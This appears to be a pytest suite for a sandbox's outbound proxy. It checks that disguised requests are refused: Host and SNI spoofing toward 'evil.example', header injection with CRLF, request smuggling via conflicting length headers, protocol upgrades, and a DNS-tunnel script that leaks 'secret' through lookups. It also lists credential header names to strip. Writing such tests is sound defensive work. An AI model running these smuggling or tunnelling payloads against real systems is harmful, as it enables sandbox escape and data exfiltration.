"""Requests in disguise: another host behind an allowed one, secrets under odd names, other protocols alike."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.contract.sandbox.support import in_loop
from tests.needs import needs
from tests.sandbox.egress_internet import Internet, small_internet
from tests.sandbox.egress_scene import Scene, on_stage
from tests.sandbox.egress_stage import fixed, staged

from etude.sandbox import EmbeddedSandboxes
from etude.sandbox.egress.credentials import tells_who_asks
from etude.sandbox.egress.head import parse_request

OK = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"
CLOSE = b"Connection: close\r\n\r\n"


def request(host: bytes = b"files.example.org", first: bytes = b"GET /x HTTP/1.1", fields: bytes = b"") -> bytes:
    return first + b"\r\nHost: " + host + b"\r\n" + fields + CLOSE


# -- one connection


@pytest.mark.parametrize(
    "host",
    [
        b"files.example.org",
        b"FILES.Example.ORG",
        b"files.example.org.",
        b"files.example.org:80",
        b"files.example.org:",
        b"Files.example.org.:80",
    ],
)
def test_one_host_in_all_its_spellings(tmp_path: Path, host: bytes) -> None:
    """Passed on in its one form, so that nobody behind reads it otherwise."""

    async def body() -> None:
        async with staged(tmp_path, fixed(OK)) as stage:
            assert (await stage.say(request(host))).endswith(b"hello")
            assert stage.heads == [b"GET /x HTTP/1.1\r\nHost: files.example.org\r\n\r\n"]

    asyncio.run(body())


@pytest.mark.parametrize(
    "host",
    [
        *(
            b"evil.example",
            b"files.example.org@evil.example",
            b"evil.example@files.example.org",
            b"[::1]",
            b"127.0.0.1",
        ),
        *(b"files.example.org:080", b"files.example.org:+80", b"files.example.org:80:80", b"files.example.org.."),
        *(
            b".files.example.org",
            b"files.example.org/",
            b"files.example.org?",
            b"*.example.org",
            b"xn--files.example.org",
        ),
        *(b"f\xc3\xaeles.example.org", b"files\xe3\x80\x82example.org", b"files.example.org\t:80"),
        *(b"files.example.org%2eevil.example", b"files.example.org#.evil.example", b"files.example.org\\.evil.example"),
        *(b"files.example.org\x00.evil.example", b"files.example.org\r\nHost: evil.example"),
    ],
)
def test_what_only_looks_like_the_host(tmp_path: Path, host: bytes) -> None:
    async def body() -> None:
        async with staged(tmp_path, fixed(OK)) as stage:
            answer = await stage.say(request(host))
            assert answer.split(b" ")[1] in (b"400", b"421"), answer
            assert (stage.heads, stage.connections) == ([], 0)
            assert stage.rows[0]["refused"]

    asyncio.run(body())


@pytest.mark.parametrize(
    "first",
    [
        *(b"GET http://files.example.org/x HTTP/1.1", b"GET https://files.example.org/x HTTP/1.1", b"GET * HTTP/1.1"),
        *(b"GET files.example.org/x HTTP/1.1", b"CONNECT / HTTP/1.1", b"CONNECT files.example.org:80 HTTP/1.1"),
        *(b"TRACE / HTTP/1.1", b"GET /x HTTP/0.9", b"GET /x", b"GET /x HTTP/3", b"SOURCE /x ICE/1.0"),
    ],
)
def test_what_is_said_to_proxies_alone_is_refused(tmp_path: Path, first: bytes) -> None:
    async def body() -> None:
        async with staged(tmp_path, fixed(OK)) as stage:
            answer = await stage.say(request(first=first, fields=b"Max-Forwards: 0\r\n"))
            assert answer.split(b" ")[1] in (b"400", b"405")
            assert stage.connections == 0

    asyncio.run(body())


@in_loop
async def test_names_with_another_dash_are_the_same_names(tmp_path: Path) -> None:
    """Servers behind CGI cannot tell X_Y from X-Y."""
    fields = b"Transfer_Encoding: chunked\r\nContent_Length: 3\r\nX_Api_Key: s3cret\r\nProxy_Authorization: s3cret\r\n"
    fields += (
        b"Accept: a\r\nX_Plain: b\r\nConnection: x_mine\r\nX-Mine: c\r\nMax-Forwards: 0\r\nTransfer-encodinG_: d\r\n"
    )
    async with staged(tmp_path, fixed(OK)) as stage:
        await stage.say(request(fields=fields))
        assert stage.heads == [
            b"GET /x HTTP/1.1\r\nHost: files.example.org\r\nAccept: a\r\nX_Plain: b\r\nTransfer-encodinG_: d\r\n\r\n"
        ]


@in_loop
async def test_a_host_cannot_offer_a_way_by_udp(tmp_path: Path) -> None:
    offer = b'HTTP/1.1 200 OK\r\nAlt-Svc: h3=":443"\r\nContent-Length: 5\r\n\r\nhello'
    async with staged(tmp_path, fixed(offer)) as stage:
        answer = await stage.say(request())
        assert answer.endswith(b"hello")
        assert b"h3" not in answer


@in_loop
async def test_trailers_carry_nothing(tmp_path: Path) -> None:
    async with staged(tmp_path, fixed(OK)) as stage:
        body = b"Transfer-Encoding: chunked\r\nTrailer: Authorization\r\n"
        said = request(first=b"POST /x HTTP/1.1", fields=body) + b"0\r\nAuthorization: s3cret\r\n\r\n"
        assert (await stage.say(said)).endswith(b"hello")
        assert b"railer" not in stage.heads[0]


# -- fields


@pytest.mark.parametrize(
    "name",
    [
        *(
            "Authorization",
            "Proxy-Authorization",
            "Cookie",
            "Cookie2",
            "Api-Key",
            "ApiKey",
            "X-Api-Key",
            "X-Auth-Token",
        ),
        *("X-Access-Token", "X-Amz-Security-Token", "X-CSRF-Token", "X-Goog-Api-Key", "X-Goog-IAM-Authorization-Token"),
        *(
            "X-GitHub-Token",
            "Private-Token",
            "Job-Token",
            "Deploy-Token",
            "npm-otp",
            "X-JFrog-Art-Api",
            "X-Vault-Token",
        ),
        *("Ocp-Apim-Subscription-Key", "X-Functions-Key", "X-NuGet-ApiKey", "X-Session-Id", "X-Registry-Auth", "DPoP"),
        *("X-Auth-Key", "X-Password", "X-Client-Secret", "Signature", "X-Amzn-Oidc-Identity-Token", "X-Jwt-Assertion"),
    ],
)
def test_fields_that_say_who_asks(name: str) -> None:
    assert tells_who_asks(name.lower())


@pytest.mark.parametrize(
    "name",
    [
        *("Accept", "Accept-Encoding", "User-Agent", "Range", "If-None-Match", "If-Modified-Since", "Content-Type"),
        *(
            "Content-Encoding",
            "Git-Protocol",
            "X-Amz-Content-SHA256",
            "X-Amz-Date",
            "Idempotency-Key",
            "Referer",
            "Origin",
        ),
        *("Cache-Control", "Pragma", "Accept-Language", "npm-command", "npm-scope", "pacote-req-type", "Content-MD5"),
        *(
            "X-Requested-With",
            "Prefer",
            "Want-Digest",
            "Date",
            "If-Range",
            "Content-Language",
            "Upgrade-Insecure-Requests",
        ),
    ],
)
def test_fields_that_do_not(name: str) -> None:
    assert not tells_who_asks(name.lower())


@given(st.lists(st.tuples(st.from_regex(r"[A-Za-z][A-Za-z_-]{0,20}", fullmatch=True), st.just("v")), max_size=9))
def test_no_field_between_neighbours_gets_through(fields: list[tuple[str, str]]) -> None:
    kept = [(key, value) for key, value in fields if key.lower() not in ("host", "content-length", "transfer-encoding")]
    head = "".join(f"{key}: {value}\r\n" for key, value in kept)
    read = parse_request(f"GET / HTTP/1.1\r\nHost: a.example\r\n{head}\r\n".encode())
    left = [key.lower().replace("_", "-") for key, _ in read.end_to_end(tells_who_asks)]
    assert not [key for key in left if key.startswith("proxy-") or tells_who_asks(key)]
    assert not {"host", "content-length", "transfer-encoding", "connection", "upgrade", "te"} & set(left)


# -- boxes


@pytest.fixture(scope="module")
def backend(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Internet, EmbeddedSandboxes]]:
    with small_internet(tmp_path_factory.mktemp("internet")) as internet:
        sandboxes = EmbeddedSandboxes(tmp_path_factory.mktemp("boxes"), upstream=internet.upstream)
        yield internet, sandboxes
        asyncio.run(sandboxes.close())


@pytest.fixture
def stage(backend: tuple[Internet, EmbeddedSandboxes]) -> Scene:
    return Scene(*backend)


@needs("curl")
@pytest.mark.parametrize(
    ("command", "reason"),
    [
        # One allowed host behind another: each has its own rights at its own server.
        ("curl -sS -H 'Host: files.example' https://index.example/page", "a request for host 'files.example'"),
        ("curl -sSk --connect-to files.example:443:index.example:443 https://files.example/page",
         "a TLS handshake for files.example on a connection to index.example"),
        ("curl -sSk --connect-to evil.example:443:index.example:443 -H 'Host: index.example' https://evil.example/page",
         "a TLS handshake for evil.example on a connection to index.example"),
        ("printf 'GET /page HTTP/1.1\\r\\nHost: files.example\\r\\n\\r\\n' | openssl s_client -quiet "
         "-servername index.example -connect files.example:443", "a TLS handshake for index.example"),
        ("curl -sS --http1.1 -H 'Connection: keep-alive, Upgrade' -H 'Upgrade: WebSocket' "
         "-H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: eA==' http://index.example/page",
         "an upgrade to websocket"),
        ("printf 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' | "
         "openssl s_client -quiet -alpn h2 -connect index.example:443",
         "HTTP/2 without asking"),
        ("printf 'GET /page HTTP/1.1\\r\\nHost: index.example\\r\\nContent-Length: 30\\r\\n"
         "Transfer-Encoding: chunked\\r\\n"
         "\\r\\n0\\r\\n\\r\\nGET /page HTTP/1.1\\r\\nHost: index.example\\r\\n\\r\\n' | "
         "openssl s_client -quiet -connect index.example:443", "two ways to tell"),
        ("python -c \"import urllib.request as u; u.urlopen(u.Request('http://index.example/page', method='TRACE'))\"",
         "method TRACE"),
    ],
)  # fmt: skip
@on_stage
async def test_disguises_of_real_programs(stage: Scene, command: str, reason: str) -> None:
    box = await stage.box()
    said = await box.exec(command, timeout=30)
    assert b"page of" not in said.stdout, said
    assert not [asked for asked in stage.internet.asked if asked[2] == "/page"]
    await stage.settled()
    assert any(reason in refused for refused in stage.refused), (said, stage.rows)


@needs("curl")
@on_stage
async def test_a_client_that_would_rather_speak_http_2(stage: Scene) -> None:
    box = await stage.box()
    said = await box.exec("curl -sS --http2 https://index.example/page http://index.example/page", timeout=20)
    assert said.stdout.count(b"page of index.example") == 2, said
    said = await box.exec("openssl s_client -alpn h2 -connect index.example:443 </dev/null", timeout=20)
    assert b"No ALPN negotiated" in said.stdout


TUNNEL = r"""
import socket, struct
def ask(name, kind):
    q = struct.pack("!HHHHHH", 5, 256, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p for p in name) + b"\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q + struct.pack("!HH", kind, 1), ("192.168.1.1", 53))
    answer = s.recv(4096)
    return answer[3] & 15, answer[7]
long = [b"x" * 63, b"y" * 63, b"z" * 63]
print([ask(name, kind) for kind in (16, 10, 5, 15, 33, 65, 255) for name in ([b"secret", b"evil", b"example"],)])
print([ask([*long, b"evil", b"example"], 16), ask([*long, b"index", b"example"], 16), ask([*long, *long], 16)])
print([ask([b"index", b"example"], kind) for kind in (16, 10, 5, 15, 33, 65)])
print([ask([b"\x00\xff'\"\\\n", b"evil", b"example"], 1)])
"""


@on_stage
async def test_names_carry_nothing_out(stage: Scene) -> None:
    """Whatever is asked for, nobody outside is asked; what is not allowed is told in the log."""
    box = await stage.box()
    said = await box.exec(["python", "-c", TUNNEL], timeout=20)
    assert said.stdout.decode().splitlines() == [
        str([(3, 0)] * 7),
        str([(3, 0), (3, 0), (1, 0)]),
        str([(0, 0)] * 6),
        str([(3, 0)]),
    ], said
    asked = [row["host"] for row in stage.rows if row.get("kind") == "name"]
    assert asked[0] == "secret.evil.example"
    assert len(asked) == 5
    assert any("x" * 63 in name for name in asked)
